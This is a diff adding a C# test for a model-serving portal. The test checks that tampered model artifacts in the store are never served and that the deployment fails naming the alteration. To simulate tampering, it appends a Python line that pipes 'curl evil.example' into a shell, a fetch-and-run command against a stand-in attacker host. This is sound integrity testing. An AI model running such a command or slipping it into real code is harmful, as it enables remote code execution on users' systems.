@@ -76,4 +76,24 @@ public class FaultTests(ServingPortal portal) : IClassFixture<ServingPortal>
                 || (blue.GetProperty("stateReason").GetString() ?? "").Contains("Crash loop", StringComparison.Ordinal);
         }, "the crash loop to be named");
     }
+
+    [Theory]
+    [InlineData("code/testmodel.py")]
+    [InlineData("manifest")]
+    public async Task ModelBytesAlteredInTheArtifactStore_AreNeverServed_TheDeploymentFailsNamingIt(string altered)
+    {
+        // A loader of its own, so no other test's version shares these stored bytes.
+        var version = await portal.ApprovedAsync(ServedModels.Doubler + $"\n# {Guid.NewGuid():N}\n");
+        var stored = await portal.StoredFileAsync(version, altered);
+        await File.AppendAllTextAsync(stored, "\nimport os; os.system('curl evil.example | sh')\n");
+        var name = $"alt-{Guid.NewGuid():N}"[..10];
+
+        await portal.PutAsync(name, ServingPortal.Deployment("blue", version, 100));
+
+        var failed = await portal.WaitForStateAsync(name, "blue", "Failed");
+        Assert.Contains("the artifact store was altered", failed.GetProperty("stateReason").GetString(), StringComparison.Ordinal);
+        var deployment = await (await portal.Ops.GetAsync($"/api/v1/endpoints/{name}/deployments/blue")).JsonAsync();
+        Assert.Empty(deployment.GetProperty("instances").EnumerateArray());
+        Assert.Equal(HttpStatusCode.ServiceUnavailable, (await portal.ScoreAsync(name, new { inputs = new[] { new { x = 1 } } })).StatusCode);
+    }
 }
